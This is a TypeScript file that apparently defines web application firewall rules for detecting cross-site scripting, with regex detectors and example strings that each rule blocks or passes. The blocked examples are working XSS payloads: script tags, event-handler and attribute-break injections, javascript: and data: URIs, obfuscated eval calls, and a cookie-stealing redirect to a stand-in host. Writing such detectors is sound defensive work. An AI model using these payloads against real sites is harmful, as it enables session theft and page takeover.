import { htmlSigns, isScriptAddress } from "../detectors/html.ts";
import { everywhere, freeText, type WafRule } from "../rule.ts";

const texts = [...everywhere, "file_content"] as const;

/** Signs of script in text. Pages escape everything and the content policy runs no inline script; this is a layer before. */
export const crossSiteScriptingRules: readonly WafRule[] = [
  {
    id: "xss-script-tag",
    class: "cross_site_scripting",
    severity: "critical",
    why: "a script element",
    targets: everywhere,
    needs: ["<"],
    sign: ({ text, html }) => (html & htmlSigns.script) !== 0 || /<\/script\s?>.{0,40}<|['"];?\s?<\/script/.test(text),
    ignoresCode: true,
    examples: {
      blocks: [
        "<script>alert(1)</script>",
        "&lt;script src=//x.example&gt;",
        "%253Cscript%253E",
        "\\u003cscript\\u003e",
        "<ScRiPt/x>",
        "\\74script\\76",
        "< script >",
      ],
      passes: ["Film script <draft 2>", "5 < scripts", "A <scripted> reply", "Never use `<script>` here"],
    },
  },
  {
    id: "xss-event-handler",
    class: "cross_site_scripting",
    severity: "critical",
    why: "an element with an event handler attribute",
    targets: texts,
    needs: ["<", "="],
    sign: ({ html }) => (html & htmlSigns.handler) !== 0,
    ignoresCode: true,
    examples: {
      blocks: [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body\nonload = x()>",
        "<a href='x'onmouseover=y>",
        "<x onpointerrawupdate=y>",
      ],
      passes: ["a <b on monday = holiday", "x < 3 and online = true", "<marks> on paper = 50", "<p once=1>"],
    },
  },
  {
    id: "xss-attribute-break",
    class: "cross_site_scripting",
    severity: "critical",
    why: "an event handler attribute without its element: it lands inside one",
    targets: texts,
    needs: ["="],
    sign: /(?:^|[\s"'`/>;)])on(?:error|load(?:start|end)?|unload|click|dblclick|auxclick|contextmenu|mouse[a-z]{2,6}|pointer[a-z]{2,12}|touch[a-z]{3,6}|focus(?:in|out)?|blur|input|change|submit|reset|select(?:start)?|invalid|key(?:down|up|press)|toggle|beforetoggle|animation[a-z]{3,9}|transition[a-z]{3,6}|wheel|copy|cut|paste|drag[a-z]{0,5}|drop|scroll(?:end)?|begin|end|repeat|page(?:show|hide)|hashchange|message|popstate|storage|resize|show|finish|start|play(?:ing)?|canplay|timeupdate|loadeddata|ended|before[a-z]{4,16}|after[a-z]{4,16}|readystatechange|propertychange|filterchange|webkit[a-z]{6,30}|cuechange|search)\s?=\s?(?:["'`]|\\["']|&|[a-z_$.[\]]{1,40}\s?[(`=;[+.]|[({[]|\(?\w{0,10}\))(?<!=\s?\{(?=\s?(?:async\s)?(?:\([\w\s,{}:]{0,60}\)?\s?=>|[\w.$]{1,60}\s?(?:\}|=>))))/,
    ignoresCode: true,
    examples: {
      blocks: ['" onfocus=alert(1) autofocus="', "' autofocus onfocus='x'", "x onmouseover=alert(1)"],
      passes: ['The "online" load = 4 kW', "'on' click counts = 3", "?onload=1", "tap onclick = true"],
    },
  },
  {
    id: "xss-script-address",
    class: "cross_site_scripting",
    severity: "critical",
    why: "an attribute that takes an address and is given a script, or a page as data",
    targets: texts,
    needs: ["<", ":,", "="],
    sign: ({ html }) => (html & htmlSigns.scriptAddress) !== 0,
    ignoresCode: true,
    examples: {
      blocks: [
        "<a href='jav&#x09;ascript:x'>",
        '<button formaction="java\nscript : x">',
        "<object data='data:text/html,x'>",
      ],
      passes: [
        "src = JavaScript files",
        "<a href='javascript:void(0)'>open</a>",
        "<img src='data:image/png;base64,iVBO='>",
      ],
    },
  },
  {
    id: "xss-javascript-uri",
    class: "cross_site_scripting",
    severity: "critical",
    why: "a javascript: address with code in it, or a data: address that is a page",
    targets: everywhere,
    needs: [":"],
    sign: ({ text }) =>
      (text.includes("script:") &&
        /\b(?:javascript|vbscript|livescript):\s?(?:\/\/|\/\*|[a-z_$][\w.$[\]]{0,60}(?:[(`[]|\s?=)|[([%"'`{+!~-]|\\|\d)/.test(
          text.replace(/javascript:(?:void\(0\)|;|history\.)/g, ""),
        )) ||
      (/^.{0,3}(?:j|v|data:|d\s?a\s?t\s?a|feed|view)/.test(text) &&
        isScriptAddress(text.slice(0, 512)) &&
        /:\S|[\t\n ]s\s?c/.test(text)) ||
      (text.includes("data:") &&
        /\bdata:(?:text\/html|application\/xhtml\+xml|text\/xml)[^\s,]{0,40},[^\s]{0,200}(?:<|%3c|phn|pgh|pgl|psv|phg|charset)/.test(
          text,
        )),
    ignoresCode: true,
    examples: {
      blocks: [
        "javascript:alert(1)",
        "javascript://%0aalert(1)",
        "JaVaScRiPt:window.name=1",
        "java\nscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
      ],
      passes: [
        "JavaScript: The Good Parts (2008)",
        "Learn JavaScript: basics (part 1)",
        "javascript:void(0)",
        "Data: text/plain",
      ],
    },
  },
  {
    id: "xss-active-element",
    class: "cross_site_scripting",
    severity: "critical",
    why: "an element that loads another page or program",
    targets: freeText,
    needs: ["<"],
    sign: ({ html }) => (html & htmlSigns.active) !== 0,
    ignoresCode: true,
    examples: {
      blocks: [
        "<iframe src=//x.example>",
        "<embed/src=x>",
        "<base href=//x.example/>",
        "<meta http-equiv=refresh content=0>",
        "<set attributename=href to=x>",
      ],
      passes: [
        "The <frame> of the door",
        "embed <your> heart",
        '<iframe src="https://www.youtube.com/embed/x1"></iframe>',
      ],
    },
  },
  {
    id: "xss-style",
    class: "cross_site_scripting",
    severity: "critical",
    why: "a style that runs or imports something",
    targets: freeText,
    needs: ["<", "(:@"],
    sign: ({ html }) => (html & htmlSigns.style) !== 0,
    ignoresCode: true,
    examples: {
      blocks: [
        "<x style=width:expression(alert(1))>",
        "<style>@import url(//x.example)</style>",
        '<div style="background:url(javascript:x)">',
      ],
      passes: ['<p style="color:red">x</p>', '<div style="background:url(/a.png)">'],
    },
  },
  {
    id: "xss-element",
    class: "cross_site_scripting",
    severity: "warning",
    why: "an element that can run or load something, given the right attributes",
    targets: freeText,
    needs: ["<"],
    sign: ({ html }) => (html & htmlSigns.suspicious) !== 0,
    ignoresCode: true,
    ignoresDocuments: true,
    examples: { blocks: ["<math>eval(x)+alert(1)</math>"], passes: ["How the <svg> tag works", "Map<Object> in code"] },
  },
  {
    id: "xss-script-break",
    class: "cross_site_scripting",
    severity: "critical",
    why: "a string in a script ends and a call follows",
    targets: freeText,
    needs: ["'\"`})];", "(`=["],
    sign: /['"`]\s?[)\]}]{0,3}\s?(?:[;+\-*/|&^<>?%]{1,3}|,|\}{1,3};?|in\s)\s?(?:\(?\s?(?:window|self|top|parent|frames|this|globalthis|document)\s?(?:\.|\[)\s?)?['"[\s(]{0,3}(?:alert|confirm|prompt|eval|settimeout|setinterval|fetch|import|location|document\.(?:cookie|write|location|domain)|\$\.getscript|postmessage)['"\])]{0,3}(?:\((?!\))|`|=(?!=)|\.call|\.apply|\?\.\(|\/\*)|[)\]}]\s?[;+\-*/|&^]{1,2}\s?(?:alert|confirm|prompt|eval)['"\])]{0,3}[(`]\s?(?:\d|document|window|location|origin|['"`/]x|\))/,
    ignoresDocuments: true,
    examples: {
      blocks: ["';alert(1)//", '"-alert(1)-"', "'+eval(name)+'", '"};alert(1);{"', "');fetch('//x.example')//"],
      passes: ["'Red'; alert team", "(a) + open (late)", 'He said "hi"; prompt reply'],
    },
  },
  {
    id: "xss-obfuscated-call",
    class: "cross_site_scripting",
    severity: "critical",
    why: "a call by a name that is hidden: computed, split, escaped or built from punctuation",
    targets: freeText,
    needs: ["[(`{", "([])'\"`="],
    sign: /\b(?:window|self|top|parent|frames|this|globalthis|document|content|location)\s?\[\s?(?:['"`/]|[a-z]{1,12}\()[^\]]{1,60}\]\s?[(=.[`]|\[\]\s?\[\s?\(|\(!\[\]\+|\bconstructor\s?\(\s?['"`]|\beval\s?\(\s?(?:atob|string|unescape|location|name|decodeuri|'|"|`|\/|\+|url|top|self)|\bstring\.fromcharcode\s?\(\s?\d{2,3}|\bnew\sfunction(?:\s?\(\s?['"`]|`[a-z\\])|\bfunction\s?\(\s?['"`][^\n]{1,80}['"`]\s?\)\s?\(|\bset(?:timeout|interval)\s?[(`]\s?['"`]?(?:alert|confirm|prompt|eval|\\|string|document)|\/[a-z]{1,8}\/\.source\b|\breflect\.(?:apply|construct)\b|\bonerror\s?=\s?(?:alert|eval|confirm|prompt|print)\s?[;,}]|\[['"`][a-z]{1,30}['"`]\](?:\[['"`][a-z]{1,30}['"`]\]|\(['"`\d])/,
    ignoresDocuments: true,
    examples: {
      blocks: [
        "top['al'+'ert'](1)",
        "eval(atob('YWxlcnQoMSk='))",
        "[][(![]+[])[+[]]]",
        "[]['filter']['constructor']('x')()",
        "{onerror=alert}throw 1",
      ],
      passes: ["self [2] (see note)", "this['name']", "eval (annual)", "top [10] = best"],
    },
  },
  {
    id: "xss-script-call",
    class: "cross_site_scripting",
    severity: "warning",
    why: "calls that injected scripts make first",
    targets: freeText,
    needs: ["(`.", "(`.="],
    sign: /(?<!`)\b(?:alert|confirm|prompt|eval|settimeout|setinterval|atob|fetch|import)\s?(?:[(`]|\?\.\()|\bdocument\.(?:cookie|write(?:ln)?|location|domain)\b|\bwindow\.(?:location|name|open)\b|\.(?:inner|outer)html\b|string\.fromcharcode|\bsrcdoc\s?=|\bxmlhttprequest\b|\bdocument\[|\blocation\.(?:href|hash|assign|replace)/,
    ignoresDocuments: true,
    examples: {
      blocks: ["<math>eval(x)</math>", "alert(document.cookie)"],
      passes: ["Red alert (test)", "eval() considered harmful", "How document.cookie works"],
    },
  },
  {
    id: "xss-bare-call",
    class: "cross_site_scripting",
    severity: "error",
    why: "the value is a call that shows or steals something, and nothing else",
    targets: freeText,
    needs: ["(`="],
    sign: /^[\s\W]{0,8}(?:(?:window|self|top|parent|document)\.)?(?:alert|confirm|prompt|eval|print|document\.write(?:ln)?)[(`](?!\))[^\n]{0,160}$|\b(?:alert|confirm|prompt)[(`]\s?(?:\d{1,8}|document\.|'xss|"xss|\/xss|`xss|xss|origin|location|string\.|self|window)|\b(?:document|window|self|top)?\.?location(?:\.href)?\s?=\s?['"`(](?:\/\/|https?:|j)|document\.cookie\s?[)+]|[+,]\s?document\.cookie|\bnew\simage\s?\(?\)?\.src/,
    ignoresDocuments: true,
    examples: {
      blocks: [
        "alert(1)",
        "prompt`1`",
        "confirm(document.domain)",
        "window.location='https://x.example/?'+document.cookie",
      ],
      passes: ["Red alert (test) for all", "Confirm (by 5 pm)", "prompt (a) or prompt (b)?"],
    },
  },
];
